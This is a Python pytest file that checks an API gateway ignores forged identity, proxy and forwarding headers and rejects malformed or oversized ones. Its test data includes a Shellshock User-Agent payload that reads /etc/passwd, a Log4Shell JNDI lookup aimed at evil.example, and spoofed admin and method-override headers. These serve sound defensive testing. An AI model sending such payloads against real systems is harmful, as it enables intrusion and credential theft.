"""Headers that would say who is calling, what is asked or how it is treated: what is not a caller's is not heard."""

from collections.abc import Iterator

import httpx
import pytest

from tests.security.wire import BODY, CREATE, Message
from tests.support.problems import assert_problem
from tests.support.stack import Stack

GET = Message()
STRANGER = "biz_2028xzawvf4039wj1pg44gawme"

IDENTITY = (
    "x-gw-business-id",
    "x-gw-subject",
    "x-gw-permissions",
    "x-gw-role",
    "x-gw-client-id",
    "x-gw-scopes",
    "x-gw-plan",
    "x-gw-token-kind",
    "x-gw-expires-at",
    "x-gw-operation",
    "x-gw-oversized",
    "x-gw-client-address",
    "x-gw-client-request-id",
    "x-gw-deadline-ms",
    "x-gw-anything",
    "X-GW-Business-Id",
)
UNHEARD: dict[str, tuple[str, ...]] = {
    **{f"{name}, forged": (f"{name}: {STRANGER}",) for name in IDENTITY},
    **{f"{name}, kept for the connection": (f"Connection: close, {name}",) for name in IDENTITY[:6]},
    "a path that Envoy once had": ("x-envoy-original-path: /v1/contacts",),
    "a time-out of a millisecond": ("x-envoy-upstream-rq-timeout-ms: 1", "x-envoy-expected-rq-timeout-ms: 1"),
    "a time-out a try": ("x-envoy-upstream-rq-per-try-timeout-ms: 1",),
    "many retries": ("x-envoy-retry-on: 5xx,gateway-error", "x-envoy-max-retries: 1000"),
    "retries by status": ("x-envoy-retriable-status-codes: 200", "x-envoy-retry-on: retriable-status-codes"),
    "another cluster": ("x-envoy-alt-stat-name: x", "x-envoy-upstream-alt-stat-name: x"),
    "being one of us": ("x-envoy-internal: true", "x-envoy-external-address: 10.0.0.1"),
    "an IP tag": ("x-envoy-ip-tags: trusted",),
    "a decorated operation": ("x-envoy-decorator-operation: contacts.list",),
    "a forced trace": ("x-envoy-force-trace: 1", "x-client-trace-id: x"),
    "an address of the inside": ("x-forwarded-for: 127.0.0.1, 10.0.0.1",),
    "a thousand addresses": ("x-forwarded-for: " + "1.2.3.4, " * 1_000,),
    "another real address": ("x-real-ip: 127.0.0.1", "true-client-ip: 127.0.0.1", "cf-connecting-ip: 127.0.0.1"),
    "plain HTTP": ("x-forwarded-proto: http",),
    "a scheme that is none": ("x-forwarded-proto: gopher",),
    "another host in front": ("x-forwarded-host: evil.example", "x-host: evil.example"),
    "another port in front": ("x-forwarded-port: 1",),
    "all of that by the standard": ('Forwarded: for="[::1]";host=evil.example;proto=http',),
    "another certificate": ("x-forwarded-client-cert: By=x;Hash=y;Subject=z", "x-client-verify: SUCCESS"),
    "another URL": ("X-Original-URL: /v1/contacts", "X-Rewrite-URL: /v1/contacts", "X-Override-URL: /v1/contacts"),
    "another method": ("X-HTTP-Method-Override: DELETE", "X-HTTP-Method: DELETE", "X-Method-Override: DELETE"),
    "another user": ("X-Actor-User-Id: 1", "X-User: admin", "X-Remote-User: admin", "X-Business-Id: 2"),
    "an id of its own": ("x-request-id: 0f8fad5b-d9cb-469f-a165-70867728950e",),
    "two ids of its own": ("x-request-id: a", "x-request-id: b"),
    "an id that no log can hold": ("x-request-id: \xff\xfe%n{{x}}",),
    "a trace of its own": ("traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01", "baggage: a=b"),
    "limits of its own": ("x-ratelimit-limit: 1000000", "ratelimit: x", "x-ratelimit-cost: 0"),
    "the token, kept twice": ("Proxy-Authorization: Bearer x", "X-Authorization: Bearer x", "Cookie: token=x"),
    "connections that stay and go": ("Connection: keep-alive, close", "Keep-Alive: timeout=1", "Proxy-Connection: x"),
    "a TE with trailers": ("TE: trailers",),
    "a TE with gzip": ("TE: gzip, chunked",),
    "an upgrade to HTTP/2": (
        *("Connection: upgrade, http2-settings", "Upgrade: h2c"),
        "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
    ),
    "a part of the answer": ("Range: bytes=0-1", 'If-Range: "x"'),
    "an answer from a cache": ("Cache-Control: only-if-cached", "Pragma: x", "If-Modified-Since: x"),
    "no coding at all": ("Accept-Encoding: identity;q=0, *;q=0",),
    "codings that are none": ("Accept-Encoding: \x80;q=a,,;", "Accept-Language: " + "x," * 500),
    "a charset": ("Accept-Charset: utf-7",),
    "a shell": ("User-Agent: () { :; }; /bin/cat /etc/passwd", "Referer: ${jndi:ldap://evil.example/x}"),
    "another origin": ("Origin: https://evil.example", "Access-Control-Request-Method: DELETE"),
    "a header longer than most": ("x: " + "a" * 50_000,),
    "a name longer than most": ("a" * 50_000 + ": 1",),
    "as many lines of one name as pass": ("x: 1",) * 180,
    "an If-Match of nothing here": ('If-Match: "x"',),
}


@pytest.fixture(scope="module")
def me(stack: Stack) -> Iterator[tuple[str, object]]:
    """A token, and what it says of who that is when nothing else is sent."""
    token = stack.token()
    answer = GET.send(stack, token)
    assert answer.status_code == 200, answer.text
    yield token, _who(answer)


def _who(answer: httpx.Response) -> object:
    data = answer.json()["data"]
    return {name: data[name] for name in ("business", "user", "permissions", "token")}


@pytest.mark.parametrize("lines", UNHEARD.values(), ids=UNHEARD)
def test_is_not_changed_by(stack: Stack, me: tuple[str, object], lines: tuple[str, ...]) -> None:
    answer = GET.but(more=lines).send(stack, me[0])
    assert answer.status_code == 200, answer.text
    assert _who(answer) == me[1]
    assert "evil" not in str(answer.headers) + answer.text
    assert answer.headers["x-request-id"] not in "".join(lines)


JSON = "Content-Type: application/json"
LONG = f"Content-Length: {len(BODY)}"


def _create(*more: str) -> Message:
    return CREATE.but(more=(JSON, LONG, *more))


TWICE: dict[str, tuple[Message, str, bool]] = {
    "a Version": (GET.but(more=("Version: 2026-11-24",)), "version-invalid", True),
    "a hundred and fifty Versions": (GET.but(more=("Version: 2026-11-24",) * 150), "version-invalid", True),
    "another Version": (GET.but(more=("Version: 2026-06-17",)), "version-invalid", True),
    "an Idempotency-Key": (_create("Idempotency-Key: a", "Idempotency-Key: a"), "invalid-parameter", True),
    "a key and another": (_create("Idempotency-Key: a", "Idempotency-Key: b"), "invalid-parameter", True),
    "a Content-Type": (_create(JSON), "unsupported-media-type", True),
    "a Content-Encoding": (
        _create("Content-Encoding: gzip", "Content-Encoding: identity"),
        "unsupported-media-type",
        True,
    ),
    "an If-Match and any": (GET.but(more=('If-Match: "a"', "If-Match: *")), "invalid-parameter", True),
    "an Authorization": (GET.but(more=("Authorization: Bearer {token}",)), "invalid-token", False),
    "an Authorization of another scheme": (GET.but(more=("Authorization: Basic eDp5",)), "invalid-token", False),
    "a hundred Authorizations": (GET.but(more=("Authorization: Bearer x",) * 100), "invalid-token", False),
}


@pytest.mark.parametrize(("message", "code", "decided"), TWICE.values(), ids=TWICE)
def test_is_refused_for_a_second_line_of(stack: Stack, message: Message, code: str, decided: bool) -> None:
    assert_problem(message.send(stack), code, decided=decided, api_url=stack.api_url)


BAD: dict[str, tuple[Message, str]] = {
    "a key of nothing": (_create("Idempotency-Key: "), "invalid-parameter"),
    "a key that is too long": (_create(f"Idempotency-Key: {'a' * 256}"), "invalid-parameter"),
    "a key that is not ASCII": (_create("Idempotency-Key: \xe9"), "invalid-parameter"),
    "a key with a tab in it": (_create("Idempotency-Key: a\tb"), "invalid-parameter"),
    "an If-Match with a comma too many": (_create('If-Match: "x",,y"'), "invalid-parameter"),
    "an If-Match without an end": (_create('If-Match: "x'), "invalid-parameter"),
    "an If-None-Match without an end": (GET.but(more=('If-None-Match: "x',)), "invalid-parameter"),
    "an Accept of nothing": (GET.but(more=("Accept: ;;;,,",)), "not-acceptable"),
    "an Accept that is huge": (GET.but(more=("Accept: " + "a/b," * 10_000,)), "not-acceptable"),
    "many Accepts": (GET.but(more=("Accept: a/b",) * 150), "not-acceptable"),
    "JSON that is least wanted": (GET.but(more=("Accept: application/json;q=0",)), "not-acceptable"),
}


@pytest.mark.parametrize(("message", "code"), BAD.values(), ids=BAD)
def test_is_refused_for(stack: Stack, message: Message, code: str) -> None:
    assert_problem(message.send(stack), code, decided=True, api_url=stack.api_url)


TOO_MANY: dict[str, tuple[str, ...]] = {
    "different names": tuple(f"x-{number}: 1" for number in range(120)),
    "names without end": tuple(f"x-{number}: 1" for number in range(3_000)),
    "lines of one name, where ours have no room": ("x: 1",) * 190,
    "lines of one name": ("x: 1",) * 250,
    "lines of Cookie": ("Cookie: a=b",) * 250,
    "bytes in one": ("x: " + "a" * 62_000,),
    "bytes in all": tuple(f"x-{number}: {'a' * 7_000}" for number in range(10)),
    "bytes without end": tuple(f"x-{number}: {'a' * 7_000}" for number in range(60)),
}


@pytest.mark.parametrize("lines", TOO_MANY.values(), ids=TOO_MANY)
def test_is_told_about_too_many(stack: Stack, lines: tuple[str, ...]) -> None:
    """Lines of one name were a library's plain text, or a 500."""
    assert_problem(GET.but(more=lines).send(stack), "headers-too-large", decided=False, api_url=stack.api_url)


@pytest.mark.parametrize("count", [96, 110, 115, 128, 150, 180])
def test_any_number_of_lines_has_an_answer_of_ours(stack: Stack, count: int) -> None:
    """Between what the edge counts and what those behind it take there is no gap."""
    answer = GET.but(line="GET /v1/nothing HTTP/1.1", more=("x: 1",) * count).send(stack)
    assert_problem(answer, "route-not-found", decided=True, api_url=stack.api_url)
    answer = GET.but(line="GET /v1/contacts?limit=0 HTTP/1.1", more=("x: 1",) * count).send(stack)
    assert_problem(answer, "invalid-parameter", decided=True, api_url=stack.api_url)
